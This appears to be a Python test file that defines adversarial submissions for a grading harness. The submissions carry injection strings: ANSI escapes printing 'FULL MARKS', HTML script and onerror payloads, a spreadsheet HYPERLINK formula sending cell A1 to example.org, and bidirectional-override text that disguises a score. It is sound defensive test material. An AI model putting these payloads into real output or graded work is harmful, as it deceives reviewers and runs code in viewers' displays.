"""Text that would be obeyed where it is shown: terminal, page, spreadsheet, Markdown, and from right to left."""

from tests.adversaries.adversary import HONEST, IMPORTS, Adversary, at_load, everywhere, family, in_call

ANSI = "\\x1b[2J\\x1b[31mFULL MARKS\\x1b]0;title\\x07\\x9b31m"
HTML = "</td></table><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>"
FORMULA = '=HYPERLINK(\\"http://example.org/?\\"&A1,\\"click\\")'
MARKDOWN = "](http://example.org) ![x](http://example.org/x.png) # Full marks"
BIDI = "\\u202e0.00 :erocs\\u2066\\u200b\\u2028\\u2029\\u00ad\\ufeff"
NUL = "\\0\\x01\\x7f\\x85\\r\\n\\t,\\\"';|"
ALL = (ANSI, HTML, FORMULA, MARKDOWN, BIDI, NUL)

ADVERSARIES = family(
    "injecting",
    (
        *(
            in_call(
                f"{name}_in_an_exception",
                f"{name} in an exception's text",
                f'raise ValueError("{text}")',
                status="exception",
            )
            for name, text in zip(("ansi", "html", "formula", "markdown", "bidi", "nul"), ALL, strict=True)
        ),
        *(
            at_load(
                f"{name}_while_loading",
                f"{name} in a note about the file",
                f'raise RuntimeError("{text}")',
                status="failed",
            )
            for name, text in zip(("ansi", "html", "formula", "markdown", "bidi", "nul"), ALL, strict=True)
        ),
        in_call(
            "all_in_a_type_name",
            "everything in the name of a type",
            f'raise type("{ANSI}{HTML}{BIDI}", (Exception,), {{"__module__": "{HTML}"}})',
            status="exception",
        ),
        in_call(
            "all_in_a_returned_type",
            "everything in the name of the type of a returned value",
            f'return type("{HTML}{ANSI}", (), {{"__module__": "{FORMULA}"}})()',
            status="unsendable",
        ),
        in_call("all_in_a_value", "everything in a returned text", f'return "{ANSI}{HTML}{BIDI}"', status="failed"),
        in_call(
            "all_in_prints",
            "everything printed",
            f'print("{ANSI}{HTML}{FORMULA}{BIDI}{NUL}")\nreturn -1.0',
            status="failed",
        ),
        in_call(
            "lone_surrogates",
            "text that no encoding can carry",
            'raise ValueError("\\ud800\\udfff" + chr(0xDC80))',
            status="exception",
        ),
        in_call(
            "surrogate_names",
            "a type whose name no encoding can carry",
            'return type("X", (), {"__module__": "\\ud800"})()',
            status="unsendable",
        ),
        in_call(
            "dtype_names",
            "a structured type whose field names are markup",
            f'return np.zeros(1, [("{HTML}", "f8")])',
            status="unsendable",
        ),
        in_call(
            "keys_of_a_dict", "a dict whose keys are markup", f'return {{"{HTML}": 1, "{FORMULA}": 2}}', status="failed"
        ),
        everywhere(
            "names_of_functions",
            "functions with names of other scripts",
            "def ｔｏｔａｌ_(seq): return 1\ndef توتال(seq): return 1\n",
            status="missing",
        ),
        Adversary(
            "broken_lines_of_markup",
            "lines that do not parse and are quoted in notes",
            IMPORTS + HONEST["double"] + HONEST["shares"] + f"def {HTML} = = '{FORMULA}'\n" + "=1+1\n@SUM(A1)\n+1+\n",
            keeps=frozenset(),
            most={"double": "2", "shares": "1"},
        ),
        Adversary(
            "notebook_markup",
            "a notebook whose cells raise markup",
            (
                IMPORTS + HONEST["double"] + HONEST["shares"],
                f'raise ValueError("{HTML}")',
                f'print("{ANSI}")',
                f'raise KeyError("{FORMULA}")',
            ),
            status="missing",
        ),
    ),
)
